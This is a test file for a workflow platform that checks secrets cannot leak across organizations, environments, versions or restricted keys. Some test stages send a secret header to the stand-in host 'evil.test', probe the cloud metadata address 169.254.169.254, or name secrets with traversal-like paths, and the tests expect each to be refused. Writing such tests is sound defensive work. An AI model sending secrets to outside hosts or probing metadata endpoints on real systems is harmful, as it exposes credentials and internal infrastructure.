import { beforeAll, describe, expect, it } from 'vitest'
import type { Client } from '#core/contract/client'
import { deployDocument, type Document, isEnded, newPlace, until } from '../api/deploy-document'
import { clientWith, newKey, newOrganization } from '../api/support'

const SECRET = 'a secret of somebody'
const production = { params: { name: 'production' } }
const development = { params: { name: 'development' } }
const stage = (component: string, config: object) => [{ id: 'it', component, config }]
const bound = (url: string) =>
  stage('http_request', { url, headers: { 'X-Key': '{{ secrets.MINE }}' }, retry: { max_attempts: 1 } })

/** Every way a document has of naming a secret. */
const NAMING: readonly object[] = [
  { stages: stage('transform', { value: '{{ secrets.THEIRS }}' }) },
  { stages: stage('transform', { value: "{{ secrets['THEIRS'] }}" }) },
  { stages: stage('code', { source: 'return 1', secrets: ['THEIRS'] }) },
  {
    stages: stage('http_request', { url: 'https://a.test/', auth: { type: 'bearer', token: '{{ secrets.THEIRS }}' } }),
  },
  { stages: stage('transform', { value: 1 }), output: '{{ secrets.THEIRS }}' },
  {
    stages: stage('transform', { value: 1 }),
    triggers: [{ type: 'webhook', authentication: { type: 'github', secret: '{{ secrets.THEIRS }}' } }],
  },
]

let client: Client
let session: Record<string, string>
beforeAll(async () => {
  const mine = await newOrganization()
  session = mine.session
  client = clientWith(mine.key)
})

const deploy = (document: Document) => deployDocument(client, document)

describe('a secret of somebody else (T-12)', () => {
  it('cannot be named: not one of another organization, nor of another environment', async () => {
    const theirs = await newPlace()
    await theirs.client.putSecrets({ ...production, body: { secrets: { THEIRS: SECRET } } })
    await client.putSecrets({ ...development, body: { secrets: { THEIRS: SECRET } } })
    for (const [n, naming] of NAMING.entries()) {
      await expect(deploy({ name: `naming-${n}`, ...naming } as never)).rejects.toThrow(/"code":"unset_secret"/)
    }
  })

  it('cannot be named by an id or a path of it', async () => {
    const names = ['org_x/THEIRS', 'THEIRS@org_x', 'production.THEIRS', '../THEIRS', 'org_x:THEIRS', '*', '']
    for (const name of names) {
      for (const stages of [
        stage('code', { source: 'return 1', secrets: [name] }),
        stage('transform', { value: `{{ secrets['${name}'] }}` }),
      ]) {
        const definition = { name: 'paths', triggers: [{ type: 'manual' }], stages }
        const created = await client.createWorkflow({ body: { name: crypto.randomUUID(), definition } })
        const workflowId = created.ok ? created.body.id : ''
        const answer = await client.deployWorkflow({ body: { workflowId, environment: 'production' } })
        expect([name, answer.status]).toEqual([name, 422])
      }
    }
  })

  it('is not what a version gets that named it later: it runs with the secrets of its own document', async () => {
    await client.putSecrets({ ...production, body: { secrets: { MINE: SECRET, OTHER: `${SECRET} else` } } })
    const look = 'return { own: Object.keys(secrets), other: secrets.OTHER ?? null, ...inputs }'
    const { start, workflowId } = await deploy({
      name: 'looks',
      stages: stage('code', { source: look, secrets: ['MINE'], inputs: { given: '{{ input }}' } }),
    })
    const ended = await until(client, await start({ secrets: ['OTHER'], OTHER: '{{ secrets.OTHER }}' }), isEnded)
    expect(ended.output).toMatchObject({ own: ['MINE'], other: null, given: { OTHER: '{{ secrets.OTHER }}' } })
    const read = await client.getWorkflow({ params: { id: workflowId } })
    const version = await client.listVersions({ params: { id: workflowId } })
    expect(JSON.stringify([read, version, ended])).not.toContain(SECRET)
  })

  it('goes nowhere by trying out a document, which is judged as a deployed one is', async () => {
    await client.putSecrets({
      ...development,
      body: { secrets: { MINE: { value: SECRET, allowedHosts: ['a.test'] } } },
    })
    const created = await client.createWorkflow({
      body: { definition: { name: 'tried', triggers: [{ type: 'manual' }], stages: stage('transform', { value: 1 }) } },
    })
    const id = created.ok ? created.body.id : ''
    const attempt = (stages: object[]) =>
      client.testWorkflow({
        params: { id },
        body: { input: {}, wait: true, definition: { name: 'tried', triggers: [{ type: 'manual' }], stages } },
      })
    const codeOf = async (stages: object[]) => {
      const answer = await attempt(stages)
      return answer.ok && 'error' in answer.body ? answer.body.error?.code : answer.status
    }
    expect(await codeOf(bound('https://evil.test/'))).toBe('secret_host_denied')
    expect(await codeOf(stage('http_request', { url: 'http://169.254.169.254/', retry: { max_attempts: 1 } }))).toBe(
      'egress_denied',
    )
    expect(await codeOf(stage('transform', { value: '{{ secrets.NOBODYS }}' }))).toBe(422)
    const refused = await client.testWorkflow({ params: { id }, body: { input: {}, environment: 'nowhere' } })
    expect(refused.ok).toBe(false)
  })

  it('is not used by trying out a document with a key that may only run', async () => {
    const created = await client.createWorkflow({
      body: { definition: { name: 'own', triggers: [{ type: 'manual' }], stages: stage('transform', { value: 1 }) } },
    })
    const params = { id: created.ok ? created.body.id : '' }
    await client.putSecrets({ ...production, body: { secrets: { MINE: SECRET } } })
    const runner = clientWith(await newKey(session, ['executions:run', 'workflows:read']))
    const definition = {
      name: 'own',
      triggers: [{ type: 'manual' }],
      stages: stage('transform', { value: '{{ secrets.MINE }}' }),
    }
    expect(await runner.testWorkflow({ params, body: { input: {}, definition } })).toMatchObject({ status: 403 })
    expect(await runner.testWorkflow({ params, body: { input: {}, environment: 'production' } })).toMatchObject({
      status: 403,
    })
  })
})
